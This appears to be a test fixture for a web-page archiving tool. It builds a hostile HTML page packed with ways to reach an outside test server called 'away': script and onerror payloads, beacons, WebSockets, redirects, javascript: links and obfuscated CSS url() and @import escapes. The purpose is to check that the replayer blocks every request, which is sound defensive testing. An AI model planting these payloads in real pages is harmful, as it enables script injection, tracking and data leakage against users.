// A page with every way out of itself that we know of, for replay.test.mjs.
//
// Everything in it names `away`, a server that should never hear from a browser
// that looks at the kept page. What is asked for carries a number, so that the
// one that got out can be found.

/** An address at `away`, told from the others by the line it stands in. */
const numbered = (/** @type {string} */ away) => {
  let number = 0;
  return () => `${away}/out/${(number += 1)}`;
};

/**
 * Things in the head.
 *
 * @param {string} away @param {string} hint a host name that is to stay unknown
 */
export function hostileHead(away, hint) {
  const out = numbered(`${away}/head`);
  return `
<meta http-equiv="refresh" content="0; url=${out()}">
<meta http-equiv="Link" content="<${out()}>; rel=preload; as=image">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval'">
<meta http-equiv="x-dns-prefetch-control" content="on">
<meta http-equiv="set-cookie" content="stolen=1">
<link rel="dns-prefetch" href="//dns-prefetch.${hint}">
<link rel="preconnect" href="//preconnect.${hint}">
<link rel="preload" as="image" href="${out()}" imagesrcset="${out()} 1x, ${out()} 2x">
<link rel="preload" as="font" href="${out()}" crossorigin>
<link rel="modulepreload" href="${out()}">
<link rel="prefetch" href="${out()}">
<link rel="prerender" href="${out()}">
<link rel="next" href="${out()}">
<link rel="manifest" href="${out()}">
<link rel="apple-touch-icon" href="${out()}">
<link rel="stylesheet" href="${out()}">
<link rel="Stylesheet preload" as="style" href="${out()}">
<link rel="stylesheet" href="data:text/css,@import '${out()}';p{background:url(${out()})}">
<link rel="search" href="${out()}" type="application/opensearchdescription+xml">
<script src="${out()}"></script>
<script type="module" src="${out()}"></script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${out()}"]}]}</script>
<script>
  document.title = 'script ran';
  document.cookie = 'planted=1';
  try { localStorage.planted = 1; } catch {}
  fetch('/api/v1/articles').then((answer) => new Image().src = '${out()}?' + answer.status);
  navigator.serviceWorker?.register('/sw.js');
  new SharedWorker('${out()}'); new Worker('${out()}');
  CSS.paintWorklet?.addModule('${out()}');
  navigator.sendBeacon('${out()}'); new WebSocket('ws://' + '${away}'.slice(7));
  parent.postMessage('script ran', '*'); top.location = '${out()}';
</script>
<style>
@import "${out()}";
@import'${out()}';
@IMPORT url(${out()});
@im\\70ort "${out()}";
@import/**/url("${out()}")layer(a)supports(display:grid)screen;
@font-face { font-family: away; src: url(${out()}) format("woff2"), url("${out()}"); }
@font-face { font-family: away2; src: \\75rl(${out()}); unicode-range: U+0-7F; }
@namespace away url(${out()});
@counter-style away { system: cyclic; symbols: url(${out()}); }
.a1 { background: url(${out()}) }
.a2 { background: u\\72l(${out()}) }
.a3 { background: \\000055\\000052\\00004c("${out()}") }
.a4 { background: url("${out().replace('http', '\\68ttp')}") }
.a5 { background: image-set("${out()}" 1x, url(${out()}) 2x) }
.a6 { background: -webkit-image-set(url(${out()}) 1x) }
.a7 { --away: url(${out()}); background: var(--away) }
.a8 { --away: "${out()}"; background: image-set(var(--away) 1x) }
.a9 { cursor: url(${out()}), auto; list-style-image: url(${out()}) }
.a10::before { content: url(${out()}) }
.a11 { border-image: url(${out()}) 1; mask: url(${out()}#m); filter: url(${out()}#f) }
.a12 { clip-path: url(${out()}#c); shape-outside: url(${out()}); offset-path: url(${out()}#o) }
.a13 { background: cross-fade(url(${out()}), url(${out()}), 50%) }
.a14 { background: src("${out()}") }
<!--.a15 { background: url(${out()}) }-->
.a16 { background: url(
  ${out()}
) }
.a17 { background: "
url(${out()}); }
@media screen { @supports (display: block) { .a18 { background: url(${out()}) } } }
.a19 { & .a20 { background: url(${out()}) } }
p { font-family: away, away2, serif }
</style>`;
}

/**
 * Things in the body. What is to be clicked has an id.
 *
 * @param {string} away @param {string} here the address of Cuttings
 */
export function hostileBody(away, here) {
  const out = numbered(`${away}/body`);
  const classes = Array.from({ length: 20 }, (_, at) => `<p class="a${at + 1}">A paragraph.</p>`);
  return `
${classes.join('\n')}
<p style="background: url(${out()}); background: u\\72l('${out()}')">Inline.</p>
<p style="background: image-set('${out()}' 1x)" onclick="location='${out()}'" onmouseover="alert(1)">x</p>
<img src="${out()}"><img src=x onerror="new Image().src='${out()}'">
<img srcset="${out()} 1x, ${out()} 2x"><img data-src="${out()}" lowsrc="${out()}" longdesc="${out()}">
<img src="${out()}" attributionsrc="${out()}" loading="lazy" crossorigin="use-credentials">
<picture><source srcset="${out()}" media="(min-width: 1px)"><img src="${out()}"></picture>
<input type="image" src="${out()}"><input type="image" formaction="${out()}">
<video src="${out()}" poster="${out()}" autoplay muted><source src="${out()}"><track default src="${out()}"></video>
<audio src="${out()}" autoplay preload="auto"><source src="${out()}"></audio>
<object data="${out()}" type="image/png"><param name="movie" value="${out()}"><img src="${out()}"></object>
<embed src="${out()}"><applet code="x" codebase="${out()}" archive="${out()}"></applet>
<iframe src="${out()}"></iframe><iframe srcdoc="<img src='${out()}'><script>top.location='${out()}'</script>"></iframe>
<portal src="${out()}"></portal><fencedframe src="${out()}"></fencedframe><bgsound src="${out()}">
<table background="${out()}"><tr background="${out()}"><td background="${out()}">cell</td></tr></table>
<svg width="9" height="9"><image href="${out()}"/><image xlink:href="${out()}"/><use href="${out()}#a"/>
<use xlink:href="${out()}#a"/><feImage href="${out()}"/><script href="${out()}"></script>
<script>document.title='script ran'</script><rect fill="url(${out()}#p)" style="mask:url(${out()})"/>
<style>rect{fill:url(${out()})} @import "${out()}";</style><foreignObject><img src="${out()}"><iframe src="${out()}"></iframe></foreignObject>
<a id="svg-link" href="javascript:document.title='script ran'"><text y="9">s</text><set attributeName="href" to="${out()}"/></a>
<animate attributeName="xlink:href" values="${out()}"/><mpath href="${out()}"/><linearGradient href="${out()}#g"/></svg>
<math href="${out()}"><mtext><img src="${out()}"></mtext><annotation-xml encoding="text/html"><img src="${out()}"></annotation-xml></math>
<div><template shadowrootmode="open"><style>:host{background:url(${out()})} @import '${out()}';</style><img src="${out()}"><link rel="stylesheet" href="${out()}"><slot></slot></template>in a shadow</div>
<template><img src="${out()}"></template><noscript><img src="${out()}"><meta http-equiv="refresh" content="0;url=${out()}"></noscript>
<xmp><img src="${out()}"></xmp><noembed><img src="${out()}"></noembed><textarea autofocus></textarea>
<img src="${here}/api/v1/articles"><img src="${here}/articles/1/thumbnail"><link rel="stylesheet" href="${here}/static/keys.js">
<img src="page"><img src="resource?url=x"><img src="/articles/1/pictures/0">
<form id="form" action="${out()}" method="post" target="_top"><button id="send" formaction="${out()}">send</button></form>
<form action="${here}/signout" method="post"><button id="sign-out">out</button></form>
<a id="top" href="${away}/clicked/top" target="_top" ping="${out()}" attributionsrc="${out()}">top</a>
<a id="parent" href="${away}/clicked/parent" target="_parent" rel="opener">parent</a>
<a id="download" href="${away}/clicked/download" download="x.exe">download</a>
<a id="script" href="javascript:document.title='script ran'">script</a>
<a id="data" href="data:text/html,<script>document.title='script ran'</script>">data</a>
<a id="near" href="#far">near</a><h2 id="far">Far</h2>
<map name="m"><area id="area" shape="default" href="${away}/clicked/area" ping="${out()}"></map>
<div popover id="pop">pop</div><button popovertarget="pop">p</button>
<marquee onstart="document.title='script ran'">m</marquee><details open ontoggle="document.title='script ran'">d</details>`;
}
